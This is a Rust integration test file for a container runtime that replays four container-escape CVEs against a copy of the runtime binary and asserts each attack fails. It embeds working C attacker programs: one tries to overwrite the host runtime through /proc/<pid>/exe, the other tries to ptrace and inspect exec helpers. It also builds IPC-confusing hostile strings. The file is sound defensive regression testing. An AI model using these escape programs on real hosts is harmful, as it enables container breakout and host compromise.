//! Processes entering a running container (docs/security-cases.md): the host runtime binary is
//! never writable through /proc/<pid>/exe (CVE-2019-5736), the exec helper cannot be inspected
//! or ptraced before execve (CVE-2016-9962), `exec --cap` never raises inheritable/ambient
//! (CVE-2022-29162), and big attacker-chosen strings cross the parent→child IPC intact
//! (CVE-2021-43784). `exec --user` strictness (CVE-2026-30892) is `exec::user_flag_table`; the
//! `CapInh=0` half of CVE-2022-29162 is `exec::cap_flag_on_empty_caps_gives_only_bounding_
//! effective_permitted`.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use oxirun_integration::checks::{parse_mask, status_field};
use oxirun_integration::container::CANARY_ENV;
use oxirun_integration::cprog;
use oxirun_integration::util::{reap, run_cmd, Out};
use oxirun_integration::{json, Container};

// ---- CVE-2019-5736 -----------------------------------------------------------------------------

/// Container init: holds O_PATH fds of every /proc/<pid>/exe that is not busybox or itself, and
/// keeps trying to reopen each O_WRONLY and write, until /stop exists. Logs to stdout.
const EXE_ATTACKER: &str = r##"
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#define MAXH 4096
static int held[MAXH]; static char tgt[MAXH][256]; static int nheld;
static int seen[1 << 16];
int main(void) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    char self[256] = {0};
    readlink("/proc/self/exe", self, sizeof self - 1);
    printf("READY\n");
    for (;;) {
        int stop = access("/stop", F_OK) == 0;
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == getpid() || pid >= (1 << 16) || seen[pid]) continue;
            char p[64], t[256] = {0};
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int fd = open(p, O_PATH);
            if (fd < 0) continue;
            snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
            if (readlink(p, t, sizeof t - 1) <= 0 || !strcmp(t, self) ||
                !strncmp(t, "/bin/", 5) || nheld >= MAXH) { close(fd); continue; }
            seen[pid] = 1;
            held[nheld] = fd; strcpy(tgt[nheld], t); nheld++;
            printf("HELD pid=%d %s\n", pid, t);
        }
        if (d) closedir(d);
        for (int i = 0; i < nheld; i++) {
            if (held[i] < 0) continue;
            char p[64];
            snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
            int w = open(p, O_WRONLY);
            if (w >= 0) {
                if (write(w, "#!", 2) == 2) printf("WROTE %s\n", tgt[i]);
                else printf("OPENED-WRONLY %s\n", tgt[i]);
                close(w);
                close(held[i]); held[i] = -1;
            }
        }
        if (stop) break;
        usleep(500);
    }
    printf("DONE held=%d\n", nheld);
    return 0;
}
"##;

fn sha256(p: &Path) -> String {
    let out = Command::new("sha256sum")
        .arg(p)
        .output()
        .expect("sha256sum");
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .next()
        .unwrap_or_default()
        .to_string()
}

/// `<copy> --root R <args>` with the harness' environment.
fn rt_copy(c: &Container, bin: &Path, args: &[&str]) -> Out {
    let mut cmd = Command::new(bin);
    cmd.arg("--root")
        .arg(&c.root)
        .args(args)
        .current_dir(&c.dir.path)
        .env(CANARY_ENV.0, CANARY_ENV.1);
    run_cmd(cmd, &c.dir.path, "rtcopy")
}

/// Copies the runtime to the test dir (so that a successful attack can only hurt the copy).
fn runtime_copy(c: &Container) -> PathBuf {
    let copy = c.dir.join("oxirun-copy");
    std::fs::copy(oxirun_integration::oxirun_bin(), &copy).unwrap();
    std::fs::set_permissions(&copy, std::fs::Permissions::from_mode(0o755)).unwrap();
    copy
}

#[test]
fn cve_2019_5736_proc_exe_overwrite() {
    let mut c = Container::new("exe5736");
    let copy = runtime_copy(&c);
    let hash = sha256(&copy);
    cprog::install(&c.rootfs(), "/attacker", "exe-attacker", EXE_ATTACKER);
    std::fs::write(c.rootfs().join("evil"), "#!/proc/self/exe\n").unwrap();
    std::fs::set_permissions(
        c.rootfs().join("evil"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    c.args(&["/attacker"]);
    c.write_config();
    let (b, p, id) = (
        c.bundle_str(),
        c.pid_file.to_str().unwrap().to_string(),
        c.id.clone(),
    );
    // create with the copy; the init must be running from a sealed memfd, not the host file.
    let stdout = c.dir.join("init.out");
    let mut cmd = Command::new(&copy);
    cmd.arg("--root")
        .arg(&c.root)
        .args(["create", "--bundle", &b, "--pid-file", &p, &id])
        .current_dir(&c.dir.path)
        .stdin(std::process::Stdio::null())
        .stdout(std::fs::File::create(&stdout).unwrap())
        .stderr(std::fs::File::create(c.dir.join("init.err")).unwrap());
    let st = cmd.status().unwrap();
    assert!(
        st.success(),
        "create: {}",
        std::fs::read_to_string(c.dir.join("init.err")).unwrap_or_default()
    );
    let pid = c.read_pid_file();
    c.pid = Some(pid);
    let exe = std::fs::read_link(format!("/proc/{pid}/exe")).unwrap();
    let exe_s = exe.to_string_lossy().into_owned();
    // Whatever the created init runs from must be unwritable: a sealed memfd (F_SEAL_WRITE)
    // or a read-only mount (the lead's detached read-only bind clone; readlink shows "/").
    let (seals, ro) = std::fs::File::open(format!("/proc/{pid}/exe"))
        .map(|f| {
            use std::os::fd::AsRawFd;
            // SAFETY: fcntl on an fd we own.
            let s = unsafe { libc::fcntl(f.as_raw_fd(), libc::F_GET_SEALS) };
            let ro = nix::sys::statvfs::fstatvfs(&f)
                .is_ok_and(|v| v.flags().contains(nix::sys::statvfs::FsFlags::ST_RDONLY));
            (s, ro)
        })
        .unwrap_or((-1, false));
    rt_copy(&c, &copy, &["start", &id]).ok("start");
    for i in 0..50 {
        let _ = rt_copy(&c, &copy, &["exec", &id, "/evil"]);
        let _ = rt_copy(&c, &copy, &["exec", &id, "sh", "-c", "true"]);
        if i % 10 == 0 {
            std::thread::sleep(Duration::from_millis(20));
        }
    }
    // The attacker keeps retrying for 5 s after the last runtime process exited.
    std::thread::sleep(Duration::from_secs(5));
    std::fs::write(c.rootfs().join("stop"), "").unwrap();
    let _ = reap(pid, Duration::from_secs(10));
    c.reaped = true;
    let log = std::fs::read_to_string(&stdout).unwrap_or_default();
    eprintln!("created init exe: {exe_s}, seals: {seals:#x}, ro mount: {ro}\nattacker log:\n{log}");
    assert!(log.contains("READY"), "attacker never ran: {log}");
    assert_eq!(
        sha256(&copy),
        hash,
        "host runtime binary was modified! log:\n{log}"
    );
    assert!(
        !log.contains("WROTE") && !log.contains("OPENED-WRONLY"),
        "a write handle to a runtime binary was obtained:\n{log}"
    );
    assert!(
        ro || (seals >= 0 && seals & libc::F_SEAL_WRITE != 0),
        "the runtime runs from a writable file {exe_s} (seals {seals:#x}, not read-only)"
    );
    assert!(
        exe_s != copy.to_string_lossy(),
        "the created init runs the host binary itself: {exe_s}"
    );
}

/// `vm.memfd_noexec=2` (per pid namespace) must not break the runtime: it has to fall back
/// (O_TMPFILE or an overlay) and still not run from the host file.
#[test]
fn cve_2019_5736_memfd_noexec_2_fallback() {
    let mut c = Container::new("exenoexec");
    c.sh("exec sleep 1000");
    c.write_config();
    let bin = oxirun_integration::oxirun_bin()
        .to_str()
        .unwrap()
        .to_string();
    let script = format!(
        "echo 2 > /proc/sys/vm/memfd_noexec || exit 90; \
         {bin} --root {root} create --bundle {b} --pid-file {pf} {id} || exit 91; \
         readlink /proc/$(cat {pf})/exe; \
         {bin} --root {root} delete -f {id}",
        root = c.root.display(),
        b = c.bundle_str(),
        pf = c.pid_file.display(),
        id = c.id
    );
    let mut cmd = Command::new("unshare");
    cmd.args(["--pid", "--fork", "--mount-proc", "sh", "-c", &script]);
    let out = run_cmd(cmd, &c.dir.path, "noexec");
    assert_ne!(
        out.code, 90,
        "cannot set vm.memfd_noexec in a pid ns: {out:#?}"
    );
    assert_eq!(out.code, 0, "runtime broken by memfd_noexec=2: {out:#?}");
    let exe = out.stdout.lines().next().unwrap_or_default();
    assert!(
        !exe.contains(bin.as_str()) && !exe.is_empty(),
        "with memfd_noexec=2 the runtime runs from the host file: {exe:?}"
    );
}

// ---- CVE-2016-9962 -----------------------------------------------------------------------------

/// Container init: watches /proc for new pids and, for each, tries PTRACE_SEIZE and opening
/// exe/cwd/root/environ/mem/fd of it. A success on a process that still carries the runtime's
/// environment (the harness canary) or runs the runtime binary is logged as a VIOLATION.
/// `SAW` counts processes that existed but refused access (the positive control).
const PTRACE_ATTACKER: &str = r##"
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>
static int seen[1 << 16];
static int has_canary(int pid) {
    char p[64], buf[65536];
    snprintf(p, sizeof p, "/proc/%d/environ", pid);
    int fd = open(p, O_RDONLY);
    if (fd < 0) return -1;
    int n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n < 0) return -1;
    for (int i = 0; i < n; i++) if (!buf[i]) buf[i] = '\n';
    buf[n] = 0;
    return strstr(buf, "OXIRUN_IT_HOST_CANARY") != NULL;
}
static int is_runtime(int pid) {
    char p[64], t[256] = {0};
    snprintf(p, sizeof p, "/proc/%d/exe", pid);
    if (readlink(p, t, sizeof t - 1) <= 0) return -1;
    return strncmp(t, "/bin/", 5) != 0 && strcmp(t, "/attacker") != 0;
}
int main(void) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("READY\n");
    int saw = 0, viol = 0;
    while (access("/stop", F_OK) != 0) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == getpid() || pid >= (1 << 16)) continue;
            int c = has_canary(pid), r = is_runtime(pid);
            if (c == 1 || r == 1) { printf("VIOLATION pid=%d canary=%d runtime_exe=%d\n", pid, c, r); viol++; }
            const char *f[] = {"cwd", "root", "mem", "fd/0", "fd/3", "fd/4"};
            if (c == 1 || r == 1) for (int i = 0; i < 6; i++) {
                char p[64], t[256];
                snprintf(p, sizeof p, "/proc/%d/%s", pid, f[i]);
                if (readlink(p, t, sizeof t) >= 0 || open(p, O_RDONLY) >= 0)
                    printf("VIOLATION pid=%d opened %s\n", pid, f[i]);
            }
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                int c2 = has_canary(pid), r2 = is_runtime(pid);
                if (c2 == 1 || r2 == 1) { printf("VIOLATION pid=%d seized\n", pid); viol++; }
                int st;
                ptrace(PTRACE_INTERRUPT, pid, 0, 0);
                if (waitpid(pid, &st, __WALL) == pid && !WIFEXITED(st) && !WIFSIGNALED(st))
                    ptrace(PTRACE_DETACH, pid, 0, 0);
            } else if (c == -1 && !seen[pid]) {
                seen[pid] = 1; saw++;
                printf("SAW pid=%d protected\n", pid);
            }
        }
        if (d) closedir(d);
    }
    printf("DONE saw=%d violations=%d\n", saw, viol);
    return 0;
}
"##;

fn ptrace_attacker_container(short: &str) -> (Container, PathBuf) {
    let mut c = Container::new(short);
    cprog::install(&c.rootfs(), "/attacker", "ptrace-attacker", PTRACE_ATTACKER);
    c.args(&["/attacker"]);
    c.create_ok();
    c.start().ok("start");
    let log = c.dir.path.clone();
    (c, log)
}

fn finish_attacker(c: &mut Container) -> String {
    std::fs::write(c.rootfs().join("stop"), "").unwrap();
    c.wait_exit(Duration::from_secs(20));
    let (out, _) = c.container_output();
    out
}

/// Deterministic: strace delays the exec helper's final execve by 1.5 s, so the attacker has a
/// whole window on a helper that is already inside every namespace of the container.
#[test]
fn cve_2016_9962_exec_helper_not_inspectable_before_execve() {
    let (mut c, _) = ptrace_attacker_container("ptr9962");
    for _ in 0..3 {
        let mut cmd = Command::new("strace");
        cmd.args([
            "-f",
            "-qq",
            "-o",
            "/dev/null",
            "-e",
            "trace=execve",
            "-e",
            "inject=execve:delay_enter=1500000",
        ])
        .arg(oxirun_integration::oxirun_bin())
        .arg("--root")
        .arg(&c.root)
        .args(["exec", &c.id, "true"])
        .env(CANARY_ENV.0, CANARY_ENV.1);
        let out = run_cmd(cmd, &c.dir.path, "strace-exec");
        out.ok("strace'd exec");
    }
    let log = finish_attacker(&mut c);
    eprintln!("{log}");
    assert!(log.contains("READY"), "attacker did not run: {log}");
    assert!(!log.contains("VIOLATION"), "exec helper exposed:\n{log}");
    assert!(
        log.contains("SAW pid="),
        "positive control: the attacker never even saw the (delayed) exec helper:\n{log}"
    );
}

/// Race: 300 plain execs while the attacker scans.
#[test]
fn cve_2016_9962_exec_race() {
    let (mut c, _) = ptrace_attacker_container("ptrrace");
    for _ in 0..300 {
        c.rt(&["exec", &c.id, "true"]).ok("exec");
    }
    let log = finish_attacker(&mut c);
    assert!(log.contains("READY"), "attacker did not run: {log}");
    assert!(!log.contains("VIOLATION"), "exec helper exposed:\n{log}");
}

// ---- CVE-2022-29162 ----------------------------------------------------------------------------

/// inheritable = ambient = [CHOWN] in the spec, then `exec --cap CAP_SYSLOG`: CapInh stays
/// CHOWN only and CapAmb gains nothing.
#[test]
fn cve_2022_29162_exec_cap_keeps_inheritable() {
    let mut c = Container::new("capinh");
    let all = ["CAP_CHOWN", "CAP_KILL"];
    c.user(1000, 1000, &[])
        .caps(&all, &all, &all, &["CAP_CHOWN"], &["CAP_CHOWN"])
        .sh("exec sleep 1000");
    c.config["process"]["capabilities"]["bounding"] =
        json!(["CAP_CHOWN", "CAP_KILL", "CAP_SYSLOG"]);
    c.create_ok();
    c.start().ok("start");
    let out = c.rt(&[
        "exec",
        "--cap",
        "CAP_SYSLOG",
        &c.id,
        "grep",
        "^Cap",
        "/proc/self/status",
    ]);
    out.ok("exec --cap");
    let get =
        |k| parse_mask(status_field(&out.stdout, k).unwrap_or_else(|| panic!("{k}: {out:?}")));
    assert_eq!(get("CapInh"), 1, "CapInh changed: {}", out.stdout);
    assert_eq!(get("CapAmb") & !1, 0, "CapAmb gained caps: {}", out.stdout);
}

// ---- CVE-2021-43784 ----------------------------------------------------------------------------

fn hostile_string(len: usize, seed: u8) -> String {
    // Printable noise plus bytes that look like netlink/JSON framing and namespace paths.
    let chunk = format!(
        "\u{1}\u{2}\u{10}\u{1f}\"path\":\"/proc/1/ns/net\",\u{7f}{{len:65535}}\t\\x00{seed}"
    );
    let mut s = String::with_capacity(len);
    while s.len() < len {
        s.push_str(&chunk);
    }
    s.truncate(len);
    s
}

#[test]
fn cve_2021_43784_large_ipc_payloads_roundtrip() {
    for (len, seed) in [(64 * 1024 - 1, 1u8), (64 * 1024 + 7, 2), (200 * 1024, 3)] {
        let mut c = Container::new("ipc43784");
        let arg = hostile_string(len, seed);
        let env_val = hostile_string(len / 2, seed + 10);
        let expect_arg = sha256_str(&arg);
        let expect_env = sha256_str(&env_val);
        // One execve string is at most 128 KiB (MAX_ARG_STRLEN): split into 100 KiB args.
        let mut argv = vec![
            "sh",
            "-c",
            "printf %s \"$@\" | sha256sum; printf %s \"$BIG\" | sha256sum; readlink /proc/self/ns/net",
            "x",
        ];
        let bytes = arg.as_bytes();
        let pieces: Vec<&str> = bytes
            .chunks(100 * 1024)
            .map(|ch| std::str::from_utf8(ch).unwrap())
            .collect();
        argv.extend(pieces.iter().copied());
        c.args(&argv);
        c.env(&["PATH=/bin", &format!("BIG={env_val}")]);
        c.annotation("big", &hostile_string(len, seed + 20));
        c.namespaces(&["pid", "mount", "ipc", "uts"]);
        let out = c.run(&[]);
        out.ok(&format!("run with a {len}-byte arg"));
        let lines: Vec<&str> = out.stdout.lines().collect();
        assert_eq!(lines.len(), 3, "{out:#?}");
        assert!(
            lines[0].starts_with(&expect_arg),
            "arg changed in transit ({len})"
        );
        assert!(
            lines[1].starts_with(&expect_env),
            "env changed in transit ({len})"
        );
        // No namespace joined that the spec did not ask for: the net ns is the host's.
        let host_net = std::fs::read_link("/proc/self/ns/net").unwrap();
        assert_eq!(lines[2], host_net.to_string_lossy(), "net ns changed");
    }
}

fn sha256_str(s: &str) -> String {
    use std::io::Write;
    let mut child = Command::new("sha256sum")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(s.as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .next()
        .unwrap()
        .to_string()
}
